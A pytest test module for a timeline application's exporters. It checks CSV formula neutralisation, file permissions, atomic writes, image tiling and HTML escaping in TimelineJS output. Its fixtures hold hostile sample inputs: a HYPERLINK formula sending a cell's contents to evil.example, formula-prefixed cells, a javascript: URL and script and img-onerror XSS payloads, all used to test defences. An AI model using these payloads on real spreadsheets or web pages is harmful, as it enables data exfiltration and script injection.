"""Every file out is safe to open, complete or absent, readable as the umask says (issue 17).

Each test is named after what was broken; see docs/robustness-bugs.md (B14).
"""

from __future__ import annotations

import csv
import json
import os
import stat
from datetime import date
from pathlib import Path

import pytest

from tests.core.factories import analysis, mention
from timeline_app.core.model import Granularity
from timeline_app.core.storage.export import write_csv, write_json, write_timelinejs
from timeline_app.core.storage.timelinejs import SHEET_COLUMNS, timelinejs, write_timelinejs_sheet
from timeline_app.core.story.timeline import assemble

DAY = Granularity.DAY


def _day(d: date) -> tuple:
    return d.isoformat(), DAY, d, date.fromordinal(d.toordinal() + 1)


def _hostile_timeline():
    body = "-On 3 June 2024 the vote passed."
    return assemble([
        analysis("a1", body, [mention("3 June 2024", body, *_day(date(2024, 6, 3)))],
                 title="=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")"),
        analysis("a2", "@SUM(1) On 4 June 2024 it did not.",
                 [mention("4 June 2024", "@SUM(1) On 4 June 2024 it did not.",
                          *_day(date(2024, 6, 4)))], title="\tTabbed"),
    ])  # fmt: skip


def _csv_rows(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_cells_a_spreadsheet_would_run_were_written_as_is(tmp_path):
    path = tmp_path / "events.csv"
    write_csv(_hostile_timeline(), path)
    rows = _csv_rows(path)
    titles = {r["article_id"]: r["article_title"] for r in rows}
    assert titles["a1"].startswith("'=HYPERLINK(")
    assert titles["a2"] == "'\tTabbed"
    sentences = {r["article_id"]: r["sentence"] for r in rows}
    assert sentences["a1"].startswith("'-On 3 June") and sentences["a2"].startswith("'@SUM")
    for row in rows:  # nothing left that a spreadsheet would evaluate
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    assert {r["begin"] for r in rows} == {"2024-06-03", "2024-06-04"}  # the rest unchanged


def test_the_sheet_csv_is_neutralised_too(tmp_path):
    path = tmp_path / "sheet.csv"
    assert write_timelinejs_sheet(_hostile_timeline(), path, "=1+1") == 2
    with path.open(encoding="utf-8", newline="") as fh:
        header = next(csv.reader(fh))
    assert header == SHEET_COLUMNS
    rows = _csv_rows(path)
    assert rows[0]["Type"] == "title" and rows[0]["Headline"] == "'=1+1"
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


WRITERS = {
    "csv": lambda t, p: write_csv(t, p),
    "json": lambda t, p: write_json(t, p),
    "timelinejs": lambda t, p: write_timelinejs(t, p),
    "sheet": lambda t, p: write_timelinejs_sheet(t, p),
}


@pytest.fixture
def umask():
    def set_mask(mask: int) -> None:
        os.umask(mask)

    old = os.umask(0o022)
    yield set_mask
    os.umask(old)


@pytest.mark.parametrize("kind", WRITERS)
@pytest.mark.parametrize("mask", [0o022, 0o002, 0o077])
def test_exports_came_out_0600_whatever_the_umask(tmp_path, umask, kind, mask):
    umask(mask)
    path = tmp_path / f"out.{kind}"
    WRITERS[kind](_hostile_timeline(), path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o666 & ~mask
    assert [p.name for p in tmp_path.iterdir()] == [path.name]  # no temporary file left


def test_replacing_an_export_kept_the_temporary_files_mode(tmp_path, umask):
    path = tmp_path / "out.csv"
    path.write_text("old")
    path.chmod(0o640)
    write_csv(_hostile_timeline(), path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o640


# -- pictures ------------------------------------------------------------------------------


@pytest.fixture
def render():
    """The headless renderer, which makes its own QGuiApplication when there is none (as the CLI
    does): asking for pytest-qt's ``qapp`` here would fail once a CLI test made that one first."""
    from timeline_app.gui.timeline import render as module

    return module


def test_a_jpg_name_got_png_bytes(render, tmp_path):
    out = render.render_png(_hostile_timeline(), tmp_path / "t.jpg", 600)
    assert out.read_bytes()[:3] == b"\xff\xd8\xff"
    png = render.render_png(_hostile_timeline(), tmp_path / "t.png", 600)
    assert png.read_bytes()[:4] == b"\x89PNG"


def test_an_image_extension_qt_cannot_write_is_refused_before_drawing(render, tmp_path):
    with pytest.raises(OSError, match="cannot write '.xyz' images"):
        render.render_png(_hostile_timeline(), tmp_path / "t.xyz", 600)
    assert list(tmp_path.iterdir()) == []


def test_pictures_were_written_in_place_and_a_failure_left_half_a_file(render, tmp_path,
                                                                         monkeypatch, umask):
    png, svg = tmp_path / "t.png", tmp_path / "t.svg"
    png.write_bytes(b"old png")
    svg.write_bytes(b"old svg")

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(render, "_paint", broken)
    for call, path in ((render.render_png, png), (render.render_svg, svg)):
        with pytest.raises(OSError):
            call(_hostile_timeline(), path, 600)
    assert png.read_bytes() == b"old png" and svg.read_bytes() == b"old svg"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.png", "t.svg"]
    monkeypatch.undo()
    umask(0o022)
    svg.unlink()
    render.render_svg(_hostile_timeline(), svg, 600)
    assert stat.S_IMODE(svg.stat().st_mode) == 0o644 and b"<svg" in svg.read_bytes()


def _tall_timeline(articles: int):
    analyses = []
    for i in range(articles):
        body = f"Story {i} happened on 3 June 2024 in town {i}."
        d = date(2000 + i % 25, 1 + i % 12, 1 + i % 28)
        analyses.append(analysis(f"a{i:04d}", body, [mention("3 June 2024", body, *_day(d))]))
    return assemble(analyses)


@pytest.mark.slow
def test_a_story_too_tall_for_one_image_crashed(render, tmp_path):
    """1,000 articles, a lane each: 56,000 pixels tall; at width 20,000 it died after 12 GB."""
    from PySide6.QtGui import QImage

    files = render.render_image_files(_tall_timeline(1000), tmp_path / "tall.png", width=2000)
    assert len(files) > 1 and [f.name for f in files][:2] == ["tall-1.png", "tall-2.png"]
    heights = []
    for f in files:
        image = QImage(str(f))
        assert image.width() == 2000
        assert image.height() <= render.MAX_TILE_SIDE
        assert image.width() * image.height() <= render.MAX_TILE_PIXELS
        heights.append(image.height())
    assert sum(heights) > 50_000
    assert not (tmp_path / "tall.png").exists()


def test_tiles_stay_within_the_pixel_budget_at_any_width(render):
    for width in (200, 2000, 20000, 40000):
        spans = render.tile_spans(56_116, width)
        assert sum(rows for _, rows in spans) == 56_116
        assert all(rows * width <= render.MAX_TILE_PIXELS for _, rows in spans)
        assert [top for top, _ in spans] == sorted({top for top, _ in spans})


# -- TimelineJS --------------------------------------------------------------------------


def _story():
    """Three outlets report one vote; two of them date it 3 June, one says June."""
    texts = {
        "a": ("https://www.daily.example/vote", "Vote <b>passes</b>", "On 3 June 2024 the vote passed."),
        "b": ("http://herald.example/x?a=1&b=2", "Herald: vote", "The vote passed on 3 June 2024."),
        "c": ("javascript:alert(1)", "Weekly", "The vote passed in June 2024."),
    }  # fmt: skip
    analyses = []
    for key, (url, title, body) in texts.items():
        if key == "c":
            m = mention("June 2024", body, "2024-06", Granularity.MONTH, date(2024, 6, 1),
                        date(2024, 7, 1))
        else:
            m = mention("3 June 2024", body, *_day(date(2024, 6, 3)))
        a = analysis(key, body, [m], title=title)
        a.article.url = url
        analyses.append(a)
    timeline = assemble(analyses)
    # one cluster, as reconciliation would make it: the same happening in three articles
    from dataclasses import replace

    timeline.events[:] = [replace(e, cluster_id="vote") for e in timeline.events]
    return timeline


def test_timelinejs_slides_had_no_links_outlets_or_agreed_dates():
    data = timelinejs(_story(), "The <vote>")
    assert data["title"]["text"]["headline"] == "The &lt;vote&gt;"
    (slide,) = data["events"]
    assert slide["start_date"] == {"year": 2024, "month": 6, "day": 3}  # two of three agree
    assert "end_date" not in slide
    assert slide["media"] == {"url": "https://www.daily.example/vote", "credit": "daily.example",
                              "caption": "Vote &lt;b&gt;passes&lt;/b&gt;"}  # fmt: skip
    assert slide["group"] == "daily.example"
    text = slide["text"]["text"]
    assert '<a href="http://herald.example/x?a=1&amp;b=2">Herald: vote</a>' in text
    assert "javascript:" not in json.dumps(data)
    assert "<b>" not in text


def test_timelinejs_fields_were_not_escaped():
    body = "On 3 June 2024 <img src=x onerror=alert(1)> & more."
    a = analysis("x", body, [mention("3 June 2024", body, *_day(date(2024, 6, 3)))],
                 title="<script>alert(1)</script>")
    data = timelinejs(assemble([a]), "<t>")
    dumped = json.dumps(data)
    assert "<script>" not in dumped and "<img" not in dumped and "<t>" not in dumped
    assert "&lt;img src=x onerror=alert(1)&gt; &amp; more" in data["events"][0]["text"]["text"]
    assert data["events"][0]["group"] == "&lt;script&gt;alert(1)&lt;/script&gt;"  # no outlet


def test_the_sheet_holds_the_same_slides_as_the_json(tmp_path):
    path = tmp_path / "sheet.csv"
    write_timelinejs_sheet(_story(), path, "Vote")
    rows = _csv_rows(path)
    assert [r["Type"] for r in rows] == ["title", ""]
    slide = rows[1]
    assert (slide["Year"], slide["Month"], slide["Day"]) == ("2024", "6", "3")
    assert slide["Media"] == "https://www.daily.example/vote"
    assert slide["Media Credit"] == slide["Group"] == "daily.example"


def test_there_was_no_sheet_option(tmp_path, capsys):
    from timeline_app.cli import main

    folder = tmp_path / "council"
    folder.mkdir()
    (folder / "a.txt").write_text("Budget passes\n\nThe council approved the budget on 12 March "
                                  "2021 after a long debate, the mayor's office said.\n")
    out = tmp_path / "sheet.csv"
    assert main(["export", str(folder), "--timelinejs-sheet", str(out), "--quiet"]) == 0
    rows = _csv_rows(out)
    assert rows[0]["Headline"] == "council" and rows[0]["Type"] == "title"
    assert (rows[1]["Year"], rows[1]["Month"], rows[1]["Day"]) == ("2021", "3", "12")


@pytest.mark.parametrize("values", [
    ["=1+1", "plain", None, "-x", "\tq", "\rr", "@a", "+3", "'=kept", ""],
    [None, None], ["a", "b"], [1.5, "=x", None, 7], [],
], ids=["mixed", "none", "safe", "numbers and text", "empty"])
def test_a_column_is_neutralised_as_its_cells_are(values):
    """The CSV's columns are quoted in bulk (a big text has millions of cells): cell by cell."""
    import pandas as pd

    from timeline_app.core.storage.cells import safe_cell, safe_column

    for column in (pd.Series(values), pd.Series(values, dtype=object)):
        assert safe_column(column).to_csv(index=False) == \
            column.map(safe_cell).to_csv(index=False)
